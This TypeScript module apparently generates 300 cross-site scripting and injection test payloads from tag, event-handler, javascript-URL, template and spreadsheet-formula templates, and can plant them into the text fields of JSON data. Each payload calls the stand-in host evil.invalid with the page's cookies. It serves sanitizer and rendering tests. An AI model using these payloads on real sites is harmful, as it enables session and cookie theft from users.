// Texts that run, call home or break out of their place wherever a page treats text as anything else.

/** What a payload does when it runs: it leaves a mark and asks a server. */
const RUN = "window.__xss=1;fetch('//evil.invalid/'+document.cookie)";
const TEMPLATES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<a href="javascript:${run}" autofocus>click</a>`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>go</button></form>`,
  (run) => `<marquee onstart="${run}">`,
  (run) => `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  (run) =>
    `<link rel=stylesheet href="//evil.invalid/a.css"><style>@import "//evil.invalid/b.css";</style>${run}`,
  (run) => `<meta http-equiv=refresh content="0;url=//evil.invalid/?${run}">`,
  (run) => `<base href="//evil.invalid/"><img src=a>${run}`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `{@html "<img src=x onerror='${run}'>"}`,
  (run) => `[click](javascript:${run}) ![x](//evil.invalid/x.png)`,
  (run) => `=HYPERLINK("//evil.invalid/?${run}","x")`,
];
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'><${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `--><!--${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => text.toUpperCase().replaceAll("WINDOW.__XSS", "window.__xss"),
  (text) => text.replaceAll("<", "<\u200b").replaceAll("\u200b", ""),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u001b]8;;javascript:1\u0007${text}\u001b[0m`,
  (text) => text.replaceAll(" ", "/"),
  (text) => `&lt;b&gt;${text}`,
  (text) => `javascript:/*${text}*/`,
];

/** 300 texts, each different. */
export const PAYLOADS: readonly string[] = TEMPLATES.flatMap((template) =>
  AROUND.map((around) => around(template(RUN))),
);

/** A place to put payloads one after the other. */
export function dispenser(): () => string {
  let next = 0;
  return () => PAYLOADS[next++ % PAYLOADS.length] ?? "";
}

/** A JSON value whose texts of several words carry payloads; names, numbers and short words stay. */
export function poisoned(value: unknown, payload: () => string): unknown {
  if (typeof value === "string") return /\s/.test(value.trim()) ? `${value} ${payload()}` : value;
  if (Array.isArray(value)) return value.map((one) => poisoned(one, payload));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, one]) => [key, poisoned(one, payload)]),
  );
}
